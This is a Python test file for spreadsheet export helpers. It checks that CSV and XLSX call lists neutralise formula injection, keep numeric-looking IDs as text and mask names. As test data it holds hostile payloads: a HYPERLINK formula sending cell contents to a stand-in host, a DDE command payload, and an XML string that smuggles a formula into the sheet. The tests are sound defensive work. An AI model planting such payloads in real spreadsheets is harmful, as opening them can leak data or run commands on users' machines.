"""RM list files: inert in Excel (OWASP CSV injection), ids kept as text, masking safe."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pandas as pd

from helpers import exports, privacy

HOSTILE = ['=HYPERLINK("http://evil.invalid/"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "ok"]


def test_csv_cells_that_start_like_formulas_get_a_quote(tmp_path):
    frame = pd.DataFrame({"rm_id": HOSTILE, "balance": [-5.0, 1, 2, 3, 4, 5]})
    path = exports.write_csv(frame, tmp_path / "list.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for Excel on Chinese Windows
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    assert back["rm_id"].tolist()[:5] == ["'" + v for v in HOSTILE[:5]]
    assert back["rm_id"].iloc[5] == "ok"
    assert back["balance"].iloc[0] == "-5.0"  # a negative number stays a number


def test_line_breaks_inside_a_cell_cannot_start_a_new_row(tmp_path):
    # A bare CR after the neutralising quote used to end the row for Excel: "=1+1" then
    # started a cell of its own. Every cell must come back whole, and none may start a formula.
    import csv

    values = ["\r=1+1", "a\r=2+2", "b\n@SUM(A1)", "c\r\n+3", "ok"]
    path = exports.write_csv(pd.DataFrame({"rm_id": values}), tmp_path / "list.csv")
    assert path.read_bytes().count(b"\r\n") >= len(values) + 1  # CRLF rows (Excel's own)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[0] for row in rows] == ["rm_id", "'\r=1+1", *values[1:]]
    for row in rows:
        assert not row[0].startswith(exports.FORMULA_STARTS), row


def test_xlsx_has_no_formula_cells_and_keeps_ids_as_text(tmp_path):
    frame = pd.DataFrame({"customer_id": ["000123", "1234567890123456789"], "rm_id": HOSTILE[:2]})
    path = exports.write_xlsx(frame, tmp_path / "list.xlsx", sheet="call_list")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = (
            archive.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in archive.namelist()
            else ""
        )
    assert "<f>" not in sheet
    from openpyxl import load_workbook

    book = load_workbook(path)
    assert book.sheetnames == ["call_list"]
    cells = book["call_list"]
    assert cells["A2"].value == "000123" and cells["A3"].value == "1234567890123456789"
    assert cells["B2"].data_type == "s" and cells.freeze_panes == "A2"
    assert "HYPERLINK" in sheet + strings or cells["B2"].value.startswith("=HYPERLINK")


def test_masked_names_never_start_a_formula():
    assert privacy.mask_name("张三丰") == "张**"
    for hostile in ("=cmd|' /C calc'!A0", "+x", "-x", "@x", "<script>"):
        masked = privacy.mask_name(hostile)
        assert set(masked) == {"*"}, masked


def test_xlsx_text_that_looks_like_rich_text_xml_stays_text(tmp_path):
    # XlsxWriter copies a string that starts with "<r>" and ends with "</r>" into the sheet's
    # XML unescaped (it takes it for rich text it rendered itself): a customer field could
    # then close the cell and add a formula. Every such text must come back as typed.
    import sys

    sys.path.insert(0, str(Path(__file__).parent / "hostile"))
    from hostile_support import audit_xlsx

    injected = '<r><t>a</t></r></is><f>HYPERLINK("http://evil.invalid/","x")</f><is><r><t>b</t></r>'
    values = [injected, "<r></r>", "<r>x</r>", "a\x01b\x1f", "_x0041_", "<b>bold</b>"]
    long = "<r>" + "x" * 40000 + "</r>"  # over Excel's limit: cut, never left out
    frame = pd.DataFrame({"rm_id": values, "note": values[::-1]})
    path = exports.write_xlsx(frame, tmp_path / "list.xlsx", number_formats={"note": "@"})
    formulas, _ = audit_xlsx(path)
    assert formulas == []
    cut = exports.write_xlsx(pd.DataFrame({"note": [long]}), tmp_path / "long.xlsx")
    assert audit_xlsx(cut)[0] == []
    from openpyxl import load_workbook

    def shown(value: str) -> str:
        """The text Excel shows: it decodes _xHHHH_ escapes, which openpyxl leaves as they are."""
        return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)

    cells = load_workbook(path)["list"]
    assert [shown(cells.cell(row, 1).value) for row in range(2, 8)] == values
    assert [shown(cells.cell(row, 2).value) for row in range(2, 8)] == values[::-1]
    assert load_workbook(cut)["list"]["A2"].value == long[:32767]


def test_xlsx_keeps_each_type(tmp_path):
    import datetime
    import decimal

    import numpy as np

    frame = pd.DataFrame(
        {
            "flag": [True, False, None],
            "count": np.array([1, -2, 3], dtype="int64"),
            "amount": [1.5, np.nan, -0.25],
            "when": pd.to_datetime(["2026-10-31", None, "2026-01-01 12:30"], format="ISO8601"),
            "mixed": [decimal.Decimal("2.5"), datetime.date(2026, 1, 2), pd.NA],
            "text": ["-5", "+x", None],
        }
    )
    path = exports.write_xlsx(frame, tmp_path / "types.xlsx", number_formats={"amount": "0.00"})
    from openpyxl import load_workbook

    cells = load_workbook(path)["list"]
    rows = [[cells.cell(r, c).value for c in range(1, 7)] for r in range(2, 5)]
    assert rows[0] == [True, 1, 1.5, datetime.datetime(2026, 10, 31), 2.5, "-5"]
    assert rows[1] == [False, -2, None, None, datetime.datetime(2026, 1, 2), "+x"]
    assert rows[2] == [None, 3, -0.25, datetime.datetime(2026, 1, 1, 12, 30), None, None]
    assert cells.cell(2, 3).number_format == "0.00" and cells.cell(2, 6).data_type == "s"
